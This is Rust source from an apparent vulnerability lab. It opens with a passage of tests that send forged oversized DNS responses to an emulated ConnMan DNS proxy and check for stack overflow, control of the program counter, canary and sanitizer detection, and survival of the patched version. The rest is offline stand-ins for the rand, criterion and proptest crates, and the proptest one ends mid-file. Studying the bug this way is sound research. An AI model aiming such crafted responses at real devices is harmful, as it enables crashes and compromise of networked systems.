            let q = issue_query(&mut d);
            let resp = ResponseForge::answering(&q)
                .with_chunked_payload(&[0x41; 1300])
                .unwrap()
                .build()
                .unwrap();
            let out = d.deliver_response(&resp);
            assert!(
                out.is_dos() || !out.is_root_shell() && !out.daemon_alive(),
                "{arch}: {out}"
            );
            assert!(!d.is_running(), "{arch}: daemon must be dead");
            // Subsequent deliveries bounce.
            assert_eq!(d.deliver_response(&resp), ProxyOutcome::DaemonDown);
        }
    }

    #[test]
    fn crash_report_carries_pattern_pc_on_x86() {
        let mut d = daemon(Arch::X86, ConnmanVersion::V1_34, Protections::none());
        let q = issue_query(&mut d);
        // 'AAAA' everywhere: the classic smashed-pc signature.
        let resp = ResponseForge::answering(&q)
            .with_chunked_payload(&[0x41; 1300])
            .unwrap()
            .build()
            .unwrap();
        match d.deliver_response(&resp) {
            ProxyOutcome::Crashed(report) => {
                assert_eq!(report.pc, Some(0x4141_4141), "pc is attacker bytes");
            }
            other => panic!("expected crash, got {other}"),
        }
    }

    #[test]
    fn sanitizer_reports_precise_overflow() {
        for arch in Arch::ALL {
            let mut d =
                daemon(arch, ConnmanVersion::V1_34, Protections::none()).with_sanitizer(true);
            let q = issue_query(&mut d);
            let forge = ResponseForge::answering(&q)
                .with_chunked_payload(&[0x41; 1300])
                .unwrap();
            // Total bytes the decompressor emits: labels + final root.
            let written = forge.decompressed_len() as u32 + 1;
            let resp = forge.build().unwrap();
            let out = d.deliver_response(&resp);
            let ProxyOutcome::Crashed(report) = out else {
                panic!("{arch}: expected sanitizer crash, got {out}");
            };
            match &report.fault {
                Fault::RedzoneViolation {
                    capacity, extent, ..
                } => {
                    assert_eq!(*capacity, 1024, "{arch}");
                    assert_eq!(*extent, written - 1024, "{arch}");
                }
                f => panic!("{arch}: unexpected fault {f}"),
            }
            assert!(!d.is_running(), "{arch}: sanitizer abort is fail-stop");
        }
    }

    #[test]
    fn sanitizer_quiet_on_benign_response() {
        let mut d =
            daemon(Arch::X86, ConnmanVersion::V1_34, Protections::none()).with_sanitizer(true);
        let q = issue_query(&mut d);
        let resp = ResponseForge::answering(&q)
            .with_payload_labels(vec![b"iot".to_vec(), b"example".to_vec(), b"com".to_vec()])
            .unwrap()
            .build()
            .unwrap();
        assert_eq!(
            d.deliver_response(&resp),
            ProxyOutcome::Answered { cached: 1 }
        );
        assert!(d.is_running());
    }

    #[test]
    fn patched_daemon_survives_oversized_response() {
        for arch in Arch::ALL {
            let mut d = daemon(arch, ConnmanVersion::V1_35, Protections::none());
            let q = issue_query(&mut d);
            let resp = ResponseForge::answering(&q)
                .with_chunked_payload(&[0x41; 1300])
                .unwrap()
                .build()
                .unwrap();
            let out = d.deliver_response(&resp);
            assert!(
                matches!(out, ProxyOutcome::ParseFailed { .. }),
                "{arch}: {out}"
            );
            assert!(d.is_running());
        }
    }

    #[test]
    fn wrong_id_rejected_without_parsing() {
        let mut d = daemon(Arch::X86, ConnmanVersion::V1_34, Protections::none());
        let _ = issue_query(&mut d);
        let other = Message::query(
            0xFFFF,
            Question::new(Name::parse("iot.example.com").unwrap(), RecordType::A),
        );
        let resp = ResponseForge::answering(&other)
            .with_chunked_payload(&[0x41; 1300])
            .unwrap()
            .build()
            .unwrap();
        assert!(matches!(
            d.deliver_response(&resp),
            ProxyOutcome::Rejected(ResponseRejection::IdMismatch { .. })
        ));
        assert!(d.is_running(), "bad responses must not reach the overflow");
    }

    #[test]
    fn response_without_pending_query_rejected() {
        let mut d = daemon(Arch::X86, ConnmanVersion::V1_34, Protections::none());
        let out = d.deliver_response(&[0u8; 32]);
        assert!(matches!(out, ProxyOutcome::Rejected(_)));
    }

    #[test]
    fn arm_overflow_without_null_slots_faults_in_parse_rr() {
        let mut d = daemon(Arch::Armv7, ConnmanVersion::V1_34, Protections::none());
        let q = issue_query(&mut d);
        // Non-zero bytes land in the NULL-check slots → parse_rr
        // dereferences 0x41414141 and dies before the epilogue.
        let resp = ResponseForge::answering(&q)
            .with_chunked_payload(&[0x41; 1100])
            .unwrap()
            .build()
            .unwrap();
        match d.deliver_response(&resp) {
            ProxyOutcome::Crashed(report) => {
                // The dereferenced "pointer" is attacker label bytes
                // (0x41s, with a 0x3F label-length byte possibly mixed in).
                match report.fault {
                    Fault::UnmappedRead { addr, .. } => {
                        assert_eq!(addr & 0xFFFF_FF00, 0x4141_4100, "{addr:#x}")
                    }
                    other => panic!("expected unmapped read, got {other}"),
                }
            }
            other => panic!("expected parse_rr crash, got {other}"),
        }
    }

    #[test]
    fn canary_detects_overflow_before_return() {
        let mut d = daemon(
            Arch::X86,
            ConnmanVersion::V1_34,
            Protections::none().with_canary(),
        );
        let q = issue_query(&mut d);
        let resp = ResponseForge::answering(&q)
            .with_chunked_payload(&[0x41; 1300])
            .unwrap()
            .build()
            .unwrap();
        match d.deliver_response(&resp) {
            ProxyOutcome::Crashed(report) => {
                assert!(matches!(report.fault, Fault::CanarySmashed { .. }));
            }
            other => panic!("expected canary abort, got {other}"),
        }
    }

    #[test]
    fn ttl_expiry_through_ticks() {
        let mut d = daemon(Arch::X86, ConnmanVersion::V1_34, Protections::none());
        let q = issue_query(&mut d);
        let resp = ResponseForge::answering(&q)
            .with_payload_labels(vec![b"iot".to_vec()])
            .unwrap()
            .ttl(30)
            .build()
            .unwrap();
        assert!(matches!(
            d.deliver_response(&resp),
            ProxyOutcome::Answered { .. }
        ));
        let name = Name::parse("iot.example.com").unwrap();
        assert!(matches!(
            d.resolve(&name, RecordType::A),
            Resolution::Cached(_)
        ));
        d.tick(31);
        assert!(matches!(
            d.resolve(&name, RecordType::A),
            Resolution::Query(_)
        ));
    }
}

#[cfg(test)]
mod pending_tests {
    use super::*;
    use crate::daemon::tests::{daemon as boot_daemon, issue_query};
    use cml_dns::forge::ResponseForge;
    use cml_image::Arch;
    use cml_vm::Protections;

    #[test]
    fn multiple_in_flight_queries_answered_out_of_order() {
        let mut d = boot_daemon(Arch::X86, ConnmanVersion::V1_34, Protections::none());
        let mut queries = Vec::new();
        for i in 0..5 {
            let name = Name::parse(&format!("host-{i}.example")).unwrap();
            let Resolution::Query(bytes) = d.resolve(&name, RecordType::A) else {
                panic!("cold cache");
            };
            queries.push(Message::decode(&bytes).unwrap());
        }
        assert_eq!(d.pending_count(), 5);
        // Answer in reverse order.
        for q in queries.iter().rev() {
            let resp = ResponseForge::answering(q)
                .with_payload_labels(vec![b"ok".to_vec()])
                .unwrap()
                .build()
                .unwrap();
            assert_eq!(
                d.deliver_response(&resp),
                ProxyOutcome::Answered { cached: 1 }
            );
        }
        assert_eq!(d.pending_count(), 0);
        assert_eq!(d.cache().len(), 5);
    }

    #[test]
    fn attacker_matching_any_outstanding_id_reaches_the_overflow() {
        let mut d = boot_daemon(Arch::X86, ConnmanVersion::V1_34, Protections::none());
        let mut first = None;
        for i in 0..3 {
            let name = Name::parse(&format!("svc-{i}.example")).unwrap();
            let Resolution::Query(bytes) = d.resolve(&name, RecordType::A) else {
                panic!("cold cache");
            };
            if first.is_none() {
                first = Some(Message::decode(&bytes).unwrap());
            }
        }
        // Exploit the *oldest* outstanding query, not the latest.
        let attack = ResponseForge::answering(&first.unwrap())
            .with_chunked_payload(&[0x41; 1300])
            .unwrap()
            .build()
            .unwrap();
        assert!(!d.deliver_response(&attack).daemon_alive());
    }

    #[test]
    fn request_list_is_bounded_with_oldest_first_eviction() {
        let mut d = boot_daemon(Arch::X86, ConnmanVersion::V1_34, Protections::none());
        let mut first_query = None;
        for i in 0..40 {
            let name = Name::parse(&format!("n{i}.example")).unwrap();
            let Resolution::Query(bytes) = d.resolve(&name, RecordType::A) else {
                panic!("cold cache");
            };
            if i == 0 {
                first_query = Some(Message::decode(&bytes).unwrap());
            }
        }
        assert_eq!(d.pending_count(), 32, "bounded request list");
        // The first query was evicted: answering it is now rejected.
        let resp = ResponseForge::answering(&first_query.unwrap())
            .with_payload_labels(vec![b"ok".to_vec()])
            .unwrap()
            .build()
            .unwrap();
        assert!(matches!(
            d.deliver_response(&resp),
            ProxyOutcome::Rejected(_)
        ));
    }

    #[test]
    fn eviction_strictly_follows_issue_order() {
        let mut d = boot_daemon(Arch::X86, ConnmanVersion::V1_34, Protections::none());
        let mut ids = Vec::new();
        for i in 0..MAX_PENDING + 3 {
            let name = Name::parse(&format!("q{i}.example")).unwrap();
            let Resolution::Query(bytes) = d.resolve(&name, RecordType::A) else {
                panic!("cold cache");
            };
            ids.push(Message::decode(&bytes).unwrap().id());
        }
        // Three over capacity: exactly the three oldest are gone, the
        // fourth-oldest and everything newer remain.
        assert_eq!(d.pending_count(), MAX_PENDING);
        for id in &ids[..3] {
            assert!(d.pending_for(*id).is_none(), "{id:#06x} should be evicted");
        }
        for id in &ids[3..] {
            assert!(d.pending_for(*id).is_some(), "{id:#06x} should survive");
        }
    }

    #[test]
    fn answered_query_leaves_a_stale_order_record_that_is_skipped() {
        let mut d = boot_daemon(Arch::X86, ConnmanVersion::V1_34, Protections::none());
        let mut queries = Vec::new();
        for i in 0..MAX_PENDING {
            let name = Name::parse(&format!("s{i}.example")).unwrap();
            let Resolution::Query(bytes) = d.resolve(&name, RecordType::A) else {
                panic!("cold cache");
            };
            queries.push(Message::decode(&bytes).unwrap());
        }
        // Answer the OLDEST query: its order record goes stale.
        let resp = ResponseForge::answering(&queries[0])
            .with_payload_labels(vec![b"ok".to_vec()])
            .unwrap()
            .build()
            .unwrap();
        assert_eq!(
            d.deliver_response(&resp),
            ProxyOutcome::Answered { cached: 1 }
        );
        assert_eq!(d.pending_count(), MAX_PENDING - 1);
        // Refill to capacity (no eviction), then one more: the stale
        // record for queries[0] must be skipped and queries[1] — the
        // oldest *live* query — evicted instead.
        for i in 0..2 {
            let name = Name::parse(&format!("extra{i}.example")).unwrap();
            let Resolution::Query(_) = d.resolve(&name, RecordType::A) else {
                panic!("cold cache");
            };
        }
        assert_eq!(d.pending_count(), MAX_PENDING);
        assert!(
            d.pending_for(queries[1].id()).is_none(),
            "oldest live evicted"
        );
        assert!(
            d.pending_for(queries[2].id()).is_some(),
            "next-oldest survives"
        );
    }

    #[test]
    fn unanswered_query_stays_pending_after_rejected_packets() {
        let mut d = boot_daemon(Arch::X86, ConnmanVersion::V1_34, Protections::none());
        let q = issue_query(&mut d);
        let mut bad = ResponseForge::answering(&q)
            .with_payload_labels(vec![b"ok".to_vec()])
            .unwrap()
            .build()
            .unwrap();
        bad[3] |= 0x03; // NXDOMAIN rcode → gate rejects as error rcode
        assert!(matches!(
            d.deliver_response(&bad),
            ProxyOutcome::Rejected(_)
        ));
        assert_eq!(d.pending_count(), 1, "still waiting for a good answer");
        assert!(d.pending_for(q.id()).is_some());
    }
}
