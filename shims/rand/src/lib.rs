//! Offline stand-in for the `rand` crate.
//!
//! The build environment has no access to crates.io, so this in-tree
//! shim provides the small slice of the `rand 0.8` API the workspace
//! actually uses: `rngs::StdRng`, `SeedableRng::seed_from_u64`, and
//! `Rng::{gen, gen_range, fill_bytes}`. The generator is
//! xoshiro256++ seeded through splitmix64 — high quality, fully
//! deterministic, and stable across platforms, which is all the lab
//! needs (every seed in the workspace is fixed, never entropy-derived).

/// Seeding interface (subset of `rand::SeedableRng`).
pub trait SeedableRng: Sized {
    fn seed_from_u64(seed: u64) -> Self;
}

/// Value-producing interface (subset of `rand::Rng`).
pub trait Rng {
    fn next_u64(&mut self) -> u64;

    fn next_u32(&mut self) -> u32 {
        (self.next_u64() >> 32) as u32
    }

    /// `rng.gen::<T>()` — uniform value of a primitive type.
    fn gen<T: Standard>(&mut self) -> T
    where
        Self: Sized,
    {
        T::sample(self)
    }

    /// `rng.gen_range(lo..hi)` / `rng.gen_range(lo..=hi)`.
    fn gen_range<T, R: SampleRange<T>>(&mut self, range: R) -> T
    where
        Self: Sized,
    {
        range.sample(self)
    }

    fn fill_bytes(&mut self, dest: &mut [u8])
    where
        Self: Sized,
    {
        for chunk in dest.chunks_mut(8) {
            let v = self.next_u64().to_le_bytes();
            chunk.copy_from_slice(&v[..chunk.len()]);
        }
    }
}

/// Types `gen()` can produce (stand-in for the `Standard` distribution).
pub trait Standard: Sized {
    fn sample<R: Rng>(rng: &mut R) -> Self;
}

macro_rules! impl_standard_uint {
    ($($t:ty),*) => {$(
        impl Standard for $t {
            fn sample<R: Rng>(rng: &mut R) -> Self {
                rng.next_u64() as $t
            }
        }
    )*};
}
impl_standard_uint!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

impl Standard for bool {
    fn sample<R: Rng>(rng: &mut R) -> Self {
        rng.next_u64() & 1 == 1
    }
}

impl<const N: usize> Standard for [u8; N] {
    fn sample<R: Rng>(rng: &mut R) -> Self {
        let mut out = [0u8; N];
        rng.fill_bytes(&mut out);
        out
    }
}

/// Ranges `gen_range()` accepts (stand-in for `SampleRange`).
pub trait SampleRange<T> {
    fn sample<R: Rng>(self, rng: &mut R) -> T;
}

macro_rules! impl_sample_range {
    ($($t:ty => $wide:ty),*) => {$(
        impl SampleRange<$t> for core::ops::Range<$t> {
            fn sample<R: Rng>(self, rng: &mut R) -> $t {
                assert!(self.start < self.end, "empty gen_range");
                let span = (self.end as $wide).wrapping_sub(self.start as $wide);
                let v = rng.next_u64() as $wide % span;
                self.start.wrapping_add(v as $t)
            }
        }
        impl SampleRange<$t> for core::ops::RangeInclusive<$t> {
            fn sample<R: Rng>(self, rng: &mut R) -> $t {
                let (lo, hi) = (*self.start(), *self.end());
                assert!(lo <= hi, "empty gen_range");
                let span = (hi as $wide).wrapping_sub(lo as $wide).wrapping_add(1);
                if span == 0 {
                    // Full-domain range: every value is fair game.
                    return rng.next_u64() as $t;
                }
                let v = rng.next_u64() as $wide % span;
                lo.wrapping_add(v as $t)
            }
        }
    )*};
}
impl_sample_range!(
    u8 => u64, u16 => u64, u32 => u64, u64 => u64, usize => u64,
    i8 => u64, i16 => u64, i32 => u64, i64 => u64, isize => u64
);

pub mod rngs {
    use super::{Rng, SeedableRng};

    /// Deterministic xoshiro256++ generator seeded via splitmix64.
    #[derive(Debug, Clone)]
    pub struct StdRng {
        s: [u64; 4],
    }

    impl SeedableRng for StdRng {
        fn seed_from_u64(seed: u64) -> Self {
            // splitmix64 stream expands the 64-bit seed into full state.
            let mut x = seed;
            let mut next = move || {
                x = x.wrapping_add(0x9E37_79B9_7F4A_7C15);
                let mut z = x;
                z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
                z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
                z ^ (z >> 31)
            };
            StdRng {
                s: [next(), next(), next(), next()],
            }
        }
    }

    impl Rng for StdRng {
        fn next_u64(&mut self) -> u64 {
            let s = &mut self.s;
            let result = s[0].wrapping_add(s[3]).rotate_left(23).wrapping_add(s[0]);
            let t = s[1] << 17;
            s[2] ^= s[0];
            s[3] ^= s[1];
            s[1] ^= s[2];
            s[0] ^= s[3];
            s[2] ^= t;
            s[3] = s[3].rotate_left(45);
            result
        }
    }
}

pub mod prelude {
    pub use super::rngs::StdRng;
    pub use super::{Rng, SeedableRng};
}

#[cfg(test)]
mod tests {
    use super::rngs::StdRng;
    use super::{Rng, SeedableRng};

    #[test]
    fn deterministic_per_seed() {
        let mut a = StdRng::seed_from_u64(42);
        let mut b = StdRng::seed_from_u64(42);
        for _ in 0..64 {
            assert_eq!(a.next_u64(), b.next_u64());
        }
        let mut c = StdRng::seed_from_u64(43);
        assert_ne!(StdRng::seed_from_u64(42).next_u64(), c.next_u64());
    }

    #[test]
    fn gen_range_stays_in_bounds() {
        let mut rng = StdRng::seed_from_u64(7);
        for _ in 0..1000 {
            let v: u32 = rng.gen_range(1..17);
            assert!((1..17).contains(&v));
            let w: i16 = rng.gen_range(-5..=5);
            assert!((-5..=5).contains(&w));
        }
    }

    #[test]
    fn gen_covers_primitives_and_arrays() {
        let mut rng = StdRng::seed_from_u64(9);
        let _: u32 = rng.gen();
        let _: bool = rng.gen();
        let arr: [u8; 16] = rng.gen();
        assert_eq!(arr.len(), 16);
    }
}
