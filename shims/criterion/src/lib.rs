//! Offline stand-in for `criterion`.
//!
//! The build environment cannot reach crates.io, so this shim provides
//! the subset of the criterion 0.5 API the workspace's benches use:
//! `black_box`, `Criterion::bench_function`, `benchmark_group` (with
//! `sample_size`/`finish`), `Bencher::{iter, iter_batched}`,
//! `BatchSize`, and the `criterion_group!`/`criterion_main!` macros.
//!
//! Measurement model: per benchmark, a short calibration pass sizes an
//! inner batch to ~2 ms, then `sample_size` batches are timed and the
//! min/median/max ns-per-iteration are reported on stdout in a
//! criterion-like format. No statistics beyond that — the numbers are
//! for trend tracking, not publication.

use std::time::{Duration, Instant};

pub use std::hint::black_box;

const CALIBRATION_TARGET: Duration = Duration::from_millis(2);
const DEFAULT_SAMPLE_SIZE: usize = 30;

/// How `iter_batched` amortizes setup; the shim times routine batches
/// of one setup each regardless, so the variants only exist for API
/// compatibility.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum BatchSize {
    SmallInput,
    LargeInput,
    PerIteration,
}

pub struct Bencher {
    sample_size: usize,
    /// ns per iteration, one entry per sample.
    samples: Vec<f64>,
}

impl Bencher {
    fn new(sample_size: usize) -> Self {
        Bencher {
            sample_size,
            samples: Vec::new(),
        }
    }

    /// Times `routine` back-to-back.
    pub fn iter<O, F: FnMut() -> O>(&mut self, mut routine: F) {
        // Calibrate: grow the batch until one batch takes long enough
        // to time reliably.
        let mut batch = 1u64;
        loop {
            let t = Instant::now();
            for _ in 0..batch {
                black_box(routine());
            }
            let elapsed = t.elapsed();
            if elapsed >= CALIBRATION_TARGET || batch >= 1 << 24 {
                break;
            }
            batch = (batch * 4).min(1 << 24);
        }
        for _ in 0..self.sample_size {
            let t = Instant::now();
            for _ in 0..batch {
                black_box(routine());
            }
            self.samples
                .push(t.elapsed().as_nanos() as f64 / batch as f64);
        }
    }

    /// Times `routine` over fresh inputs from `setup`; setup time is
    /// excluded from the measurement.
    pub fn iter_batched<I, O, S, F>(&mut self, mut setup: S, mut routine: F, _size: BatchSize)
    where
        S: FnMut() -> I,
        F: FnMut(I) -> O,
    {
        // Calibrate with a single run (setup can be expensive).
        let input = setup();
        let t = Instant::now();
        black_box(routine(input));
        let once = t.elapsed().max(Duration::from_nanos(1));
        let batch = (CALIBRATION_TARGET.as_nanos() / once.as_nanos()).clamp(1, 1 << 16) as u64;
        for _ in 0..self.sample_size {
            let inputs: Vec<I> = (0..batch).map(|_| setup()).collect();
            let t = Instant::now();
            for input in inputs {
                black_box(routine(input));
            }
            self.samples
                .push(t.elapsed().as_nanos() as f64 / batch as f64);
        }
    }
}

fn human(ns: f64) -> String {
    if ns >= 1e9 {
        format!("{:.4} s", ns / 1e9)
    } else if ns >= 1e6 {
        format!("{:.4} ms", ns / 1e6)
    } else if ns >= 1e3 {
        format!("{:.4} µs", ns / 1e3)
    } else {
        format!("{ns:.2} ns")
    }
}

fn run_one(name: &str, sample_size: usize, f: &mut dyn FnMut(&mut Bencher)) {
    let mut b = Bencher::new(sample_size);
    f(&mut b);
    if b.samples.is_empty() {
        println!("{name:<44} (no samples)");
        return;
    }
    let mut s = b.samples.clone();
    s.sort_by(|a, b| a.partial_cmp(b).unwrap());
    let median = s[s.len() / 2];
    let (lo, hi) = (s[0], s[s.len() - 1]);
    println!(
        "{name:<44} time: [{} {} {}]",
        human(lo),
        human(median),
        human(hi)
    );
}

/// Substring filter taken from the command line (cargo bench -- <filter>).
fn cli_filter() -> Option<String> {
    std::env::args()
        .skip(1)
        .find(|a| !a.starts_with('-') && a != "bench")
}

pub struct Criterion {
    filter: Option<String>,
}

impl Default for Criterion {
    fn default() -> Self {
        Criterion {
            filter: cli_filter(),
        }
    }
}

impl Criterion {
    fn selected(&self, name: &str) -> bool {
        self.filter.as_deref().is_none_or(|f| name.contains(f))
    }

    pub fn bench_function<F: FnMut(&mut Bencher)>(
        &mut self,
        name: impl AsRef<str>,
        mut f: F,
    ) -> &mut Self {
        let name = name.as_ref();
        if self.selected(name) {
            run_one(name, DEFAULT_SAMPLE_SIZE, &mut f);
        }
        self
    }

    pub fn benchmark_group(&mut self, name: impl Into<String>) -> BenchmarkGroup<'_> {
        BenchmarkGroup {
            criterion: self,
            name: name.into(),
            sample_size: DEFAULT_SAMPLE_SIZE,
        }
    }
}

pub struct BenchmarkGroup<'a> {
    criterion: &'a mut Criterion,
    name: String,
    sample_size: usize,
}

impl BenchmarkGroup<'_> {
    pub fn sample_size(&mut self, n: usize) -> &mut Self {
        self.sample_size = n.max(2);
        self
    }

    pub fn bench_function<F: FnMut(&mut Bencher)>(
        &mut self,
        name: impl AsRef<str>,
        mut f: F,
    ) -> &mut Self {
        let full = format!("{}/{}", self.name, name.as_ref());
        if self.criterion.selected(&full) {
            run_one(&full, self.sample_size, &mut f);
        }
        self
    }

    pub fn finish(self) {}
}

#[macro_export]
macro_rules! criterion_group {
    ($group:ident, $($target:path),+ $(,)?) => {
        fn $group() {
            let mut c = $crate::Criterion::default();
            $( $target(&mut c); )+
        }
    };
}

#[macro_export]
macro_rules! criterion_main {
    ($($group:path),+ $(,)?) => {
        fn main() {
            $( $group(); )+
        }
    };
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bench_function_produces_samples() {
        let mut b = Bencher::new(5);
        b.iter(|| black_box(3u64).wrapping_mul(7));
        assert_eq!(b.samples.len(), 5);
        assert!(b.samples.iter().all(|&s| s >= 0.0));
    }

    #[test]
    fn iter_batched_consumes_inputs() {
        let mut b = Bencher::new(3);
        b.iter_batched(|| vec![1u8; 64], |v| v.len(), BatchSize::SmallInput);
        assert_eq!(b.samples.len(), 3);
    }
}
