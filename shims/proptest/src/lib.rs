//! Offline stand-in for `proptest`.
//!
//! The build environment cannot reach crates.io, so this shim supplies
//! the slice of the proptest 1.x API the workspace's property tests
//! use: the `proptest!`/`prop_oneof!`/`prop_assert!` macros, the
//! [`Strategy`] trait with `prop_map`, [`any`], integer-range and
//! string-pattern strategies, tuples, [`Just`], and
//! [`collection::vec`]. Differences from real proptest:
//!
//! - **No shrinking.** A failing case panics with the generated values
//!   Debug-printed where available; it is not minimized.
//! - **Deterministic seeding.** Each test derives its RNG seed from the
//!   test function's name, so failures reproduce exactly across runs.
//! - **Pattern strategies** support the regex subset the workspace
//!   uses: literals, `\`-escapes, `[a-z0-9_-]` classes, `(...)` groups,
//!   and `{m}`/`{m,n}` repetition. Anything else panics loudly.

use std::marker::PhantomData;

use rand::rngs::StdRng;
use rand::{Rng as _, SeedableRng as _};

/// Per-test deterministic RNG handed to strategies.
pub struct TestRng(StdRng);

impl TestRng {
    pub fn next_u64(&mut self) -> u64 {
        self.0.next_u64()
    }

    /// Uniform value in `[0, n)`.
    pub fn below(&mut self, n: usize) -> usize {
        assert!(n > 0, "below(0)");
        (self.next_u64() % n as u64) as usize
    }
}

/// Builds the RNG for one property-test function (seeded by its name,
/// so runs are reproducible and independent of execution order).
pub fn test_rng(test_name: &str) -> TestRng {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for b in test_name.bytes() {
        h ^= b as u64;
        h = h.wrapping_mul(0x1000_0000_01b3);
    }
    TestRng(StdRng::seed_from_u64(h))
}

/// Runner configuration (subset of `proptest::test_runner::ProptestConfig`).
#[derive(Debug, Clone)]
pub struct ProptestConfig {
    pub cases: u32,
}

impl Default for ProptestConfig {
    fn default() -> Self {
        ProptestConfig { cases: 256 }
    }
}

impl ProptestConfig {
    pub fn with_cases(cases: u32) -> Self {
        ProptestConfig { cases }
    }
}

/// A generator of test values.
pub trait Strategy {
    type Value;

    fn generate(&self, rng: &mut TestRng) -> Self::Value;

    fn prop_map<O, F: Fn(Self::Value) -> O>(self, f: F) -> Map<Self, F>
    where
        Self: Sized,
    {
        Map { inner: self, f }
    }

    fn boxed(self) -> BoxedStrategy<Self::Value>
    where
        Self: Sized + 'static,
    {
        Box::new(self)
    }
}

/// Object-safe view of [`Strategy`] so heterogeneous strategies can
/// share a `Vec` (for `prop_oneof!`).
pub trait DynStrategy<V> {
    fn generate_dyn(&self, rng: &mut TestRng) -> V;
}

impl<S: Strategy> DynStrategy<S::Value> for S {
    fn generate_dyn(&self, rng: &mut TestRng) -> S::Value {
        self.generate(rng)
    }
}

pub type BoxedStrategy<V> = Box<dyn DynStrategy<V>>;

impl<V> Strategy for BoxedStrategy<V> {
    type Value = V;
    fn generate(&self, rng: &mut TestRng) -> V {
        (**self).generate_dyn(rng)
    }
}

/// Always produces a clone of the given value.
#[derive(Debug, Clone)]
pub struct Just<T: Clone>(pub T);

impl<T: Clone> Strategy for Just<T> {
    type Value = T;
    fn generate(&self, _rng: &mut TestRng) -> T {
        self.0.clone()
    }
}

pub struct Map<S, F> {
    inner: S,
    f: F,
}

impl<S: Strategy, O, F: Fn(S::Value) -> O> Strategy for Map<S, F> {
    type Value = O;
    fn generate(&self, rng: &mut TestRng) -> O {
        (self.f)(self.inner.generate(rng))
    }
}

/// Uniform choice among strategies with a common value type.
pub struct OneOf<V> {
    options: Vec<BoxedStrategy<V>>,
}

impl<V> OneOf<V> {
    pub fn new(options: Vec<BoxedStrategy<V>>) -> Self {
        assert!(!options.is_empty(), "prop_oneof! needs at least one arm");
        OneOf { options }
    }
}

impl<V> Strategy for OneOf<V> {
    type Value = V;
    fn generate(&self, rng: &mut TestRng) -> V {
        let i = rng.below(self.options.len());
        self.options[i].generate_dyn(rng)
    }
}

/// `any::<T>()` — uniform values of a primitive type.
pub fn any<T: Arbitrary>() -> Any<T> {
    Any(PhantomData)
}

pub struct Any<T>(PhantomData<T>);

impl<T: Arbitrary> Strategy for Any<T> {
    type Value = T;
    fn generate(&self, rng: &mut TestRng) -> T {
        T::arbitrary(rng)
    }
}

pub trait Arbitrary {
    fn arbitrary(rng: &mut TestRng) -> Self;
}

macro_rules! impl_arbitrary_int {
    ($($t:ty),*) => {$(
        impl Arbitrary for $t {
            fn arbitrary(rng: &mut TestRng) -> Self {
                rng.next_u64() as $t
            }
        }
    )*};
}
impl_arbitrary_int!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

impl Arbitrary for bool {
    fn arbitrary(rng: &mut TestRng) -> Self {
        rng.next_u64() & 1 == 1
    }
}

impl<T: Arbitrary, const N: usize> Arbitrary for [T; N] {
    fn arbitrary(rng: &mut TestRng) -> Self {
        std::array::from_fn(|_| T::arbitrary(rng))
    }
}

// Integer ranges are strategies: `0u8..8`, `1u16..=63`, …
macro_rules! impl_range_strategy {
    ($($t:ty),*) => {$(
        impl Strategy for core::ops::Range<$t> {
            type Value = $t;
            fn generate(&self, rng: &mut TestRng) -> $t {
                assert!(self.start < self.end, "empty range strategy");
                let span = (self.end as u64).wrapping_sub(self.start as u64);
                self.start.wrapping_add((rng.next_u64() % span) as $t)
            }
        }
        impl Strategy for core::ops::RangeInclusive<$t> {
            type Value = $t;
            fn generate(&self, rng: &mut TestRng) -> $t {
                let (lo, hi) = (*self.start(), *self.end());
                assert!(lo <= hi, "empty range strategy");
                let span = (hi as u64).wrapping_sub(lo as u64).wrapping_add(1);
                if span == 0 {
                    return rng.next_u64() as $t;
                }
                lo.wrapping_add((rng.next_u64() % span) as $t)
            }
        }
    )*};
}
impl_range_strategy!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

macro_rules! impl_tuple_strategy {
    ($(($($n:tt $s:ident),+))*) => {$(
        impl<$($s: Strategy),+> Strategy for ($($s,)+) {
            type Value = ($($s::Value,)+);
            fn generate(&self, rng: &mut TestRng) -> Self::Value {
                ($(self.$n.generate(rng),)+)
            }
        }
    )*};
}
impl_tuple_strategy! {
    (0 A, 1 B)
    (0 A, 1 B, 2 C)
    (0 A, 1 B, 2 C, 3 D)
    (0 A, 1 B, 2 C, 3 D, 4 E)
}

// ---------------------------------------------------------------------
// String pattern strategies: the regex subset the workspace uses.
// ---------------------------------------------------------------------

#[derive(Debug, Clone)]
enum PatNode {
    Lit(char),
    Class(Vec<(char, char)>),
    Group(Vec<(PatNode, u32, u32)>),
}

fn parse_pattern(pat: &str) -> Vec<(PatNode, u32, u32)> {
    let mut chars: Vec<char> = pat.chars().collect();
    chars.reverse(); // pop() from the front
    let seq = parse_seq(&mut chars, pat);
    assert!(chars.is_empty(), "unbalanced pattern {pat:?}");
    seq
}

fn parse_seq(chars: &mut Vec<char>, pat: &str) -> Vec<(PatNode, u32, u32)> {
    let mut out = Vec::new();
    while let Some(&c) = chars.last() {
        if c == ')' {
            break;
        }
        chars.pop();
        let node = match c {
            '[' => {
                let mut ranges = Vec::new();
                loop {
                    let a = chars
                        .pop()
                        .unwrap_or_else(|| panic!("unclosed [ in {pat:?}"));
                    if a == ']' {
                        break;
                    }
                    if chars.last() == Some(&'-')
                        && chars.get(chars.len().wrapping_sub(2)) != Some(&']')
                    {
                        chars.pop();
                        let b = chars
                            .pop()
                            .unwrap_or_else(|| panic!("bad class in {pat:?}"));
                        ranges.push((a, b));
                    } else {
                        ranges.push((a, a));
                    }
                }
                PatNode::Class(ranges)
            }
            '(' => {
                let inner = parse_seq(chars, pat);
                assert_eq!(chars.pop(), Some(')'), "unclosed ( in {pat:?}");
                PatNode::Group(inner)
            }
            '\\' => PatNode::Lit(
                chars
                    .pop()
                    .unwrap_or_else(|| panic!("dangling \\ in {pat:?}")),
            ),
            '{' | '}' | '*' | '+' | '?' | '|' | '.' | ']' => {
                panic!("unsupported regex construct {c:?} in pattern {pat:?}")
            }
            lit => PatNode::Lit(lit),
        };
        // Optional {m} / {m,n} repetition.
        let (min, max) = if chars.last() == Some(&'{') {
            chars.pop();
            let mut digits = String::new();
            while chars.last().is_some_and(|c| c.is_ascii_digit()) {
                digits.push(chars.pop().unwrap());
            }
            let m: u32 = digits
                .parse()
